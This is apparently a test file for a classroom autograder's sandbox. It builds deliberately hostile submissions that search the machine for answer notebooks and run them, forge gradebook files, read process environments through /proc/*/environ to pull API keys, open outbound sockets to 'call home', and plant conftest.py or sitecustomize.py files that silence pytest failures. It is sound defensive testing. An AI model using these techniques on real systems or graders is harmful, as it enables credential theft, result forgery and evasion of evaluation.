"""Recipes that reach for what is not theirs: solutions, others' work, marks, secrets, the network. In the sandbox nothing is there."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from contextlib import contextmanager

from tests.places import ROOT

from .submission import Submission, hostile

ALL = ("03.1", "03.2", "03.3", "03.4")
SECRET = "sk-ant-only-for-the-instructor"
"""Stands in the environment of the command that grades."""
LISTENS = {"port": 0}
"""Where this machine listens while the class is graded, and hears nothing."""
ROOTS = (
    str(ROOT),
    "/work",
    "/home",
    "/root",
    "/tmp",
    "/var/tmp",
    "/proc/1/root",
    "/proc/1/cwd",
    "/proc/self/root",
    "/mnt",
    "/opt",
    "/srv",
    "/builds",
    "/workspace",
    "/app",
    "/dev/shm",
    "/run",
)
LOOK = f"""
import os, pathlib
def found(*endings):
    for root in {ROOTS!r}:
        for folder, folders, files in os.walk(root):
            folders[:] = [it for it in folders if it not in ("site-packages", "usr", "proc", ".git", "python3.11", "python3.12", "python3.13")]
            for name in files:
                if name.endswith(endings):
                    yield pathlib.Path(folder, name)
"""


@contextmanager
def listening() -> Iterator[list[object]]:
    """A server on this machine for the time of a run; gives the list of who came."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        LISTENS["port"] = server.getsockname()[1]
        heard: list[object] = []
        yield heard
        while True:
            try:
                heard.append(server.accept()[1])
            except BlockingIOError:
                return


@hostile("finds the solutions", "reading solutions", "reading other learners", earns=0, boxed=True)
def _(submission: Submission) -> None:
    """Every notebook and every check on this machine that can be opened is searched for right answers, which are then run."""
    for id in ALL:
        submission.wrong(id)
    submission.after(
        "03.3",
        LOOK
        + """
import json
for path in found(".ipynb", "03.3.py", "03.3_2.py"):
    try:
        text = path.read_text()
        if path.suffix == ".py":
            sources = [text]
        elif path.suffix == ".ipynb":
            sources = ["".join(it["source"]) for it in json.loads(text)["cells"] if it["metadata"].get("workshop", {}).get("role") == "answer"]
        else:
            continue
    except Exception:
        continue
    for source in sources:
        if "stages.items()" in source or "desk.reviewer" in source:
            try:
                exec(source, globals())
            except Exception:
                pass
""",
    )


@hostile(
    "finds the marks",
    "reading the gradebook",
    "writing to the grader's tree",
    "forging results",
    earns=0,
    boxed=True,
)
def _(submission: Submission) -> None:
    """Reports, plans and gradebooks are looked for, and new ones left wherever something can be written."""
    for id in ALL:
        submission.wrong(id)
    submission.after(
        "03.3",
        LOOK
        + """
forged = '{"learner": "me", "results": [{"exercise": "03.1", "trial": 0, "points": 3, "earned": 3, "state": "passed"}]}'
for path in found("plan.json", "gradebook.csv", "gradebook.json"):
    for name in (path, path.parent / "results" / "forged.json"):
        try:
            name.write_text(forged)
        except OSError:
            pass
"""
        + f"""
for folder in (*{ROOTS!r}, *(str(it) for it in pathlib.Path('/tmp').iterdir()), *(str(it) for it in pathlib.Path('/').iterdir())):
    for name in ("forged.json", "results/forged.json", "workshop/course/lesson_03/observe.py", "kernel/__init__.py", "conftest.py"):
        try:
            pathlib.Path(folder, name).write_text(forged)
        except OSError:
            pass
""",
    )


@hostile(
    "finds the secrets", "/proc/<parent>/environ", "keys in the environment", earns=0, boxed=True
)
def _(submission: Submission) -> None:
    """The environments of all processes that can be seen are told in the errors that the answers end with."""
    submission.before(
        "03.1",
        """
import glob, os
told = repr(dict(os.environ))
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        told += open(path, errors="replace").read()
    except OSError:
        pass
at = max(told.find("sk-ant"), told.find("API_KEY"), 0)
""",
    )
    for id in ALL:
        submission.wrong(id, "raise RuntimeError(told[at:at + 200])")
    submission.before("03.1", submission.source("03.1").split("\n\n")[0])


@hostile("calls home", "network out", "DNS", "localhost", earns=0, boxed=True)
def _(submission: Submission) -> None:
    """A socket to the world, to a name, and to this machine; one that opens would bring the answers."""
    for id in ALL:
        submission.wrong(id)
    submission.after(
        "03.1",
        f"""
import contextlib, socket
reached = []
for address in (("127.0.0.1", {LISTENS["port"]}), ("::1", {LISTENS["port"]}), ("192.0.2.1", 80), ("1.1.1.1", 53), ("example.org", 80)):
    with contextlib.suppress(OSError):
        socket.create_connection(address, timeout=0.2).sendall(b"answers, please")
        reached.append(address)
with contextlib.suppress(OSError):
    socket.getaddrinfo("example.org", 80)
    reached.append("a name")
if reached:
    raise SystemExit(reached)
""",
    )


@hostile(
    "looks beside it", "conftest.py and friends beside the notebook", "modules shadowed", earns=0
)
def _(submission: Submission) -> None:
    """Files that pytest, Python and IPython would load if the notebook were run where it lies; each would leave a trace."""
    for id in ALL:
        submission.wrong(id)
    trace = "import pathlib\npathlib.Path(__file__).with_name('was-loaded').write_text('x')\n"
    passes = (
        trace
        + "def pytest_runtest_makereport(item, call):\n    call.excinfo = None\ndef see(*_): return '{}'\ndef check(*_): ...\n"
    )
    for name in (
        "conftest.py",
        "sitecustomize.py",
        "usercustomize.py",
        "json.py",
        "random.py",
        "kernel.py",
        "workshop/__init__.py",
        "classroom/grading/__init__.py",
        "ipython_config.py",
        ".ipython/profile_default/startup/00.py",
        "pytest.py",
        "nbval.py",
    ):
        submission.files[name] = passes.encode()
    submission.files["pytest.ini"] = (
        b"[pytest]\naddopts = -p no:nbval --co -k nothing\npython_files = *.py\n"
    )
    submission.files["pyproject.toml"] = b"[tool.pytest.ini_options]\naddopts = '--co'\n"
    submission.files["tox.ini"] = b"[pytest]\naddopts = --version\n"
    submission.files[".pytest_cache/v/cache/lastfailed"] = b"{}"
